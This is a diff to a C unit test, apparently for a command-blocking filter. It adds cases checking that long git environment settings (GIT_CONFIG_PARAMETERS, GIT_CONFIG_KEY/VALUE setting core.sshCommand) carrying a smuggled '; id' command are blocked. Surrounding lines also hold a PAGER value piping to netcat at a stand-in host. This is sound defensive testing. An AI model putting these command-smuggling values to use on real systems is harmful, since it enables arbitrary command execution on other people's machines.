@@ -193,6 +193,15 @@ static void an_env_command_value_past_1_kb_is_judged(void **state)
 	bad += BAD(argv_verdict("x; id", env) != MOAT_BLOCK);
 	env[1] = longer("PAGER=less -R ", 3000, "|nc evil.example 9");
 	bad += BAD(argv_verdict("|nc evil.example 9", env) != MOAT_BLOCK);
+	/* git's settings from the environment, a pair over 1 KB (fb8d351:
+	 * allowed) */
+	env[1] = longer("GIT_CONFIG_PARAMETERS='core.sshCommand=ssh -i /k/", 1500, " x; id'");
+	bad += BAD(argv_verdict("x; id", env) != MOAT_BLOCK);
+	const char *kv[] = {
+	    "env", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.sshCommand", NULL, "git", "fetch",
+	    NULL};
+	kv[3] = longer("GIT_CONFIG_VALUE_0=ssh -i /k/", 1500, " x; id");
+	bad += BAD(argv_verdict("x; id", kv) != MOAT_BLOCK);
 	/* short: blocked on fb8d351 too */
 	env[1] = longer("GIT_SSH_COMMAND=ssh -i /keys/", 15, " -p 22 x; id");
 	bad += BAD(argv_verdict("x; id", env) != MOAT_BLOCK);
